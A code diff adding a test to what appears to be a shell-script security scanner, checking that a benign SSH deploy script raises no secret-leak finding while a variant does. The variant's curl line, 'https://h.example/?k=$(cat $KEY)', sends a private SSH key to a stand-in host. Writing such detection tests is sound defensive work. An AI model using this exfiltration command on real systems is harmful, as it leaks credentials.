@@ -272,6 +272,25 @@ fn a_plain_download_sends_nothing() {
         Some(Severity::Critical),
         "{found:?}"
     );
+    // A deploy that points a variable at its key for `ssh -i`, then checks the site by an address built from
+    // variables, reads no key and sends none; the same check with the key's variable in it sends it.
+    let deploy = "KEY=${DEPLOY_KEY:-$HOME/.ssh/deploy_ed25519}\nssh -i \"$KEY\" \"$DEPLOY_HOST\" true\ncurl -fsS -o /dev/null -w '%{http_code}' \"${SITE_URL:-https://${DEPLOY_HOST#*@}/}\"\n";
+    let found = run(FileKind::Script, "x.sh", deploy);
+    assert!(level("flow/secret-to-network", &found).is_none(), "{found:?}");
+    assert!(
+        level("secrets/ssh-keys", &found) <= Some(Severity::Medium),
+        "{found:?}"
+    );
+    let leaked = deploy.replace(
+        "${SITE_URL:-https://${DEPLOY_HOST#*@}/}",
+        "https://h.example/?k=$(cat $KEY)",
+    );
+    let found = run(FileKind::Script, "x.sh", &leaked);
+    assert_eq!(
+        level("flow/secret-to-network", &found),
+        Some(Severity::Critical),
+        "{found:?}"
+    );
     // Output thrown away is not a download to run.
     let probe =
         "if command -v curl &>/dev/null; then B=curl; fi\nif command -v wget &>/dev/null; then B=wget; fi\n";
